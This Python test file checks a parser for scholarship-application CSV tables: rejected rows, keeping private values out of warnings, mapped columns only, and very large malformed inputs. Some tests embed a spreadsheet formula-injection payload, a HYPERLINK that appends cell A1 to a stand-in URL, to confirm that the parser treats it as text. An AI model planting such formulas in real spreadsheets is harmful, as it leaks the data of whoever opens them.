"""Tables of scholarships at their worst: what is kept aside, that nothing private is told, and twenty thousand rows."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.feeds.scholarship_tables import OPTIONS, ROW, ZONE, only, read

from confdash import feeds
from confdash.feeds.describe import describe
from confdash.records import (
    AMOUNTS,
    TABLE_FIELDS,
    Batch,
    FeedError,
    ParseOptions,
    Scholarship,
)


def test_rows_that_nobody_can_read_are_kept_aside_with_line_and_reason() -> None:
    body = (
        "Name,E-mail,Amount granted\nAda,ada@x.test,1\n,,2\nBo,bo@x.test\nTotal,,3\nCy,cy@x.test,4,5\n"
        '"Di\nLow",di@x.test,6\nSum:,,9\n'
    )
    batch = read(body)
    assert [(each.line, each.reason) for each in batch.aside] == [
        (3, "no name, e-mail address or id says whose application it is"), (4, "fewer cells than titles"),
        (5, "a row of totals"), (6, "more cells than titles"), (9, "a row of totals"),
    ]  # fmt: skip
    assert [row.person.name for row in batch.scholarships] == ["Ada", "Di Low"]
    many = read("Name,Amount granted\n" + ",1\n" * 300)
    assert (len(many.aside), many.skipped) == (200, {many.aside[0].reason: 300})


def test_a_formula_is_text() -> None:
    formula = '=HYPERLINK("https://x.test/?"&A1,"Ada")'
    row = only(f'Name,E-mail,Amount granted\n"{formula.replace(chr(34), chr(34) * 2)}","=1+1",=2+3\n')
    assert (row.person.name, row.person.email, row.offered) == (formula, None, None)


@pytest.mark.parametrize(
    ("text", "email"),
    [
        ("Ada <ada@x.test>", "ada@x.test"),
        ("mailto:ada@x.test", "ada@x.test"),
        ("ada@x.test, bo@x.test", None),
        ("-", None),
    ],
)
def test_addresses_as_people_paste_them(text: str, email: str | None) -> None:
    assert only(f'Name,E-mail,Amount granted\nAda,"{text}",\n').person.email == email


PRIVATE = ("Zora Quill", "zora@quill.test", "4321", "Quill", "98765")


@pytest.mark.parametrize(
    "body",
    [
        # No line of titles.
        "Zora Quill,zora@quill.test,4321 EUR\nBo,bo@x.test,98765 EUR\n",
        # Columns mapped by mistake.
        "Name,E-mail,Status,Fund,Amount granted\nZora Quill,4321 EUR,Zora Quill,4321 EUR,zora@quill.test\n",
        "Name,Status,Fund,Answer by\nBo,zora@quill.test,zora@quill.test,Zora Quill 4321\nZora,98765,x,4321\n",
        "Name,Status,Reimbursement\n" + "".join(f"P{n},Zora Quill {n},Zora Quill {n}\n" for n in range(20)),
        # Rows and cells that cannot be read.
        "Name,E-mail,Amount granted,Answer by\n,,4321 EUR,\nZora Quill,zora(at)quill.test,4321-98765,98765/1\nQuill\n",
        '[{"Name": "Zora Quill", "Amount granted": "4321 Quill"}, "Zora Quill", 98765]',
        "| Name | Amount granted |\n|---|---|\n| Zora Quill | 4321 or so | zora@quill.test |\n",
        '"Name","Amount granted"\n"Zora Quill,4321\n',
    ],
)
def test_no_warning_reason_or_refusal_quotes_anything_private(body: str) -> None:
    for options in (OPTIONS, ParseOptions()):
        try:
            batch = feeds.parse(body.encode(), options, format="table")
        except FeedError as error:
            told = str(error)
        else:
            told = " ".join((*batch.warnings, *(each.reason for each in batch.aside), *batch.skipped))
        assert not [word for word in PRIVATE if word in told], told
    assert not [word for word in PRIVATE if word in describe(body.encode())]


def test_a_pot_is_no_amount_since_everybody_sees_it() -> None:
    batch = read("Name,Fund,Amount granted\nAda,Travel,1\nBo,500 EUR,1\nCy,cy@x.test,1\nDi,2026,1\n")
    assert [row.pot for row in batch.scholarships] == ["Travel", None, None, "2026"]
    assert (
        "`pot` counts as not said in 2 rows (lines 3, 4): it holds an amount, an address or a name of this table, and"
        " is no pot" in batch.warnings
    )


TEXTS = st.text(st.characters(exclude_categories=["Cs"]), max_size=12) | st.sampled_from(
    ["1.234,50 €", "Ada", "offered", "9 Nov 2026", "a@x.test", "17", "", "5/7/2018", '"', "=1+1", "|"]
)


@settings(max_examples=40, deadline=None)
@given(
    st.lists(st.tuples(*[TEXTS] * 6), max_size=5), st.sampled_from([",", ";", "\t", "|"]),
    st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "utf-16-le"]), st.booleans(),
)  # fmt: skip
def test_what_is_kept_of_a_table_is_read_the_same_and_holds_the_mapped_columns_alone(
    rows: list[tuple[str, ...]], delimiter: str, encoding: str, mapped: bool
) -> None:
    out = io.StringIO(newline="")
    titles = ["Name", "E-mail", "Decision", "Amount granted", "Answer by", "Fund"]
    writer = csv.writer(out, delimiter=delimiter)
    writer.writerow([*titles[:3], "Secret", *titles[3:]])
    for row in rows:
        writer.writerow([*row[:3], "hush hush", *row[3:]])
    columns = (("name", "Name"), ("state", "Decision"), ("offered", "Amount granted")) if mapped else ()
    options = ParseOptions(timezone=ZONE, entity="scholarships", currency="EUR", columns=columns)
    body = out.getvalue().encode(encoding)
    batch = read(body, options)
    kept = feeds.to_keep(body, options, batch)
    assert feeds.parse_held(kept, options, format="table") == batch
    assert b"hush" not in kept
    without = feeds.to_keep(body, options, Batch(format="table", read=0, items=0))
    assert feeds.parse_held(without, options, format="table").scholarships == ()


def test_what_is_kept_is_read_the_same_where_nothing_is_configured() -> None:
    body = ROW.encode()
    options = ParseOptions(timezone=ZONE)
    batch = feeds.parse(body, options)
    kept = feeds.to_keep(body, options, batch)
    assert feeds.parse_held(kept, options) == batch
    assert b"fish" not in kept
    for damaged in (kept[:-5], kept.replace(b'"records":[[2,[', b'"records":[[2,["more",')):
        with pytest.raises(FeedError, match="damaged"):
            feeds.parse_held(damaged, options)
    with pytest.raises(FeedError, match="holds several lists"):  # a server could write whatever it likes into one
        feeds.parse(kept, OPTIONS, format="table")


def worst(rows: int, delimiter: str, encoding: str) -> tuple[bytes, dict[str, int]]:
    """A CSV with the worst of headers, quoting and cells; and what all grants add up to, by currency."""
    out = io.StringIO(newline="")
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    more = [f"{number}. Why, in your own “words”?\n(at most 200)" for number in range(8)]
    writer.writerow(
        [
            "Timestamp",
            " FULL NÄME ",
            "E-Mail:",
            "Fund",
            "Scholarship status",
            "Amount granted (€)",
            "Accept before",
            *more,
        ]
    )
    totals = {"EUR": 0, "USD": 0}
    for number in range(rows):
        euros = number % 3 > 0
        totals["EUR" if euros else "USD"] += number * 100 + number % 100
        amount = f"{number:,}.{number % 100:02}"
        written = amount.translate(str.maketrans(",.", ".,")) if euros else f"US$ {amount}"
        name = '=HYPERLINK("https://x.test","Ada")' if number % 50 == 0 else f'Ada "the; one"\r\nLøw, {number}'
        cells = [f"p{number}@x.test", "Travel", "offered", written, f"{1 + number % 28} Nov 2026"]
        writer.writerow(["x", name, *cells, *["a; b,\tc\n“d” | e"] * len(more)])
    return out.getvalue().encode(encoding), totals


def check(body: bytes, rows: int, totals: dict[str, int]) -> None:
    batch = read(body, ParseOptions(timezone=ZONE, entity="scholarships"))
    assert (batch.items, batch.aside, batch.skipped) == (rows, (), {})
    found = dict.fromkeys(totals, 0)
    for row in batch.scholarships:
        assert row.offered is not None
        found[row.offered.currency] += row.offered.minor
    assert found == totals
    assert batch.scholarships[0].person.name == '=HYPERLINK("https://x.test","Ada")'
    assert {row.state for row in batch.scholarships} == {"offered"}
    assert batch.scholarships[-1].answer_by is not None


SPELLINGS = [(",", "utf-8-sig"), (";", "cp1252"), ("\t", "utf-16"), ("|", "utf-16-le")]


def test_five_thousand_rows_of_the_worst() -> None:
    body, totals = worst(5_000, ";", "cp1252")
    check(body, 5_000, totals)


@pytest.mark.parametrize(("delimiter", "encoding"), SPELLINGS)
def test_the_worst_in_all_encodings_and_separators(delimiter: str, encoding: str) -> None:
    body, totals = worst(60, delimiter, encoding)
    check(body, 60, totals)


@pytest.mark.soak
@pytest.mark.parametrize(("delimiter", "encoding"), SPELLINGS)
def test_twenty_thousand_rows_in_all_encodings_and_separators(delimiter: str, encoding: str) -> None:
    body, totals = worst(20_000, delimiter, encoding)
    check(body, 20_000, totals)


def test_a_quote_that_never_closes_is_refused_with_its_line() -> None:
    body, _ = worst(2_000, ",", "utf-8")
    broken = body + b'x,"never closed,' + b"\r\n".join([b"x,y"] * 500)
    with pytest.raises(FeedError, match=r"A quotation mark in the record that begins at line \d+ never closes"):
        read(broken)


def test_nothing_but_mapped_fields_has_a_way_in() -> None:
    fields = {
        "name",
        "first_name",
        "last_name",
        "email",
        "code",
        "id",
        "currency",
        "claimed_currency",
        "paid_currency",
        "offered_on",
        "answered_on",
        "updated",
    }
    stored = set(Scholarship.__struct_fields__) - {"base", "person", "raw_state", "raw_reimbursement", "needs_info"}
    assert set(TABLE_FIELDS["scholarships"]) - fields == stored - {"offered_at", "answered_at", "said_at"}
    assert set(AMOUNTS) < stored
